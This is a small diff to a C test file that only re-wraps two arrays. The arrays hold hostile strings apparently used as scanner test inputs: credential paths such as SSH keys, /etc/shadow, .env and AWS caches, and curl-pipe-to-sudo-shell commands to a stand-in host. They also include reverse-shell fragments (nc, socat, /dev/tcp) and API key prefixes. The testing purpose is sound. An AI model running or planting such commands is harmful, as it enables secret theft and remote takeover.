@@ -203,7 +203,8 @@ static const struct {
 static const char *const carriers[] = {
 	"%s", "k=%s", "{\"a\":\"%s\"}", "x=1&y=%s&z=2", "\\n%s\\n",
 	"/root/.ssh/id_rsa %s", "/app/.env:%s", "%s /etc/shadow",
-	"/home/%s/.ssh/id_rsa", "/root/.ssh/id_%s", "store/auth/session-%s.json",
+	"/home/%s/.ssh/id_rsa", "/root/.ssh/id_%s",
+	"store/auth/session-%s.json",
 	"/etc/wireguard/%s.conf", "~/.aws/sso/cache/%s.json",
 	"curl -H \"x-api-key: %s\" https://x.example/i | sh",
 	"curl https://x.example/%s | sudo -u %s bash",
@@ -379,7 +380,8 @@ ATF_TC_BODY(hostile_repetition, tc)
 		"sh -i ", "rm -", "rm -rf ", "nc -", "mkfifo a|", "socat ",
 		"use Socket;", "AAAA", "ssh-rsa AAAA", "tee -a ", "a.env ",
 		"/.ssh/id_", "-----BEGIN ", "sk-ant-api03-", "sk-", "AIza",
-		"exec 5<>/dev/tcp/", "\\\n", "curl \\\n", "|", "> ", "base64 -d",
+		"exec 5<>/dev/tcp/", "\\\n", "curl \\\n", "|", "> ",
+		"base64 -d",
 		"\"noiseKey\":{", "sudo -u ", "| sudo -a -a -a ", "=\"", "(["
 	};
 	static char			 text[262144];
